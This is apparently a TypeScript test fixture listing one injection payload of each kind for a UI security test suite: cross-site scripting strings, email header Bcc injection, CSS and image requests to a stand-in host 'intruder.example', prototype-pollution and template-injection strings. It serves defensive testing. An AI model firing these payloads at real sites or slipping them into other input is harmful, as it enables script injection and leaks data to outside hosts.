/*
 * Injection payloads, one of each kind. One that is executed is detected by a call of `intruded`, a request to
 * FOREIGN_HOST, a class, style or attribute that contains MARKER, or a link with other targets
 * (tests/screens/injection.spec.ts).
 */

/** Only payloads send requests to this host. */
export const FOREIGN_HOST = 'intruder.example';
/** Part of each class, id or attribute that a payload tries to add. */
export const MARKER = 'intruder';

const CALL = 'intruded()';
const URL = `//${FOREIGN_HOST}/`;

/** In an order in which some are of every kind also where only the first ones are used. */
export const PAYLOADS: readonly string[] = [
  `"><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `" autofocus onfocus="${CALL}" ${MARKER}="`,
  `javascript:${CALL}`,
  `grace@example.com\r\nBcc: ${MARKER}@${FOREIGN_HOST}`,
  `</title><img src=x onerror=${CALL}>`,
  `blue;background:url(${URL}x.png)`,
  `\u2028${CALL}\u2029\u0000\uFEFF\u200B`,
  '__proto__',
  `grace@example.com?bcc=${MARKER}@${FOREIGN_HOST}`,
  `<!--<script>${CALL}</script>`,
  `</textarea><img src="${URL}pixel.png">`,
  `fas fa-constructor" class="${MARKER}`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `{{constructor.constructor('${CALL}')()}}`,
  // Long, but short enough for several fields of one document.
  `<b>${CALL}</b>`.repeat(1500),
];
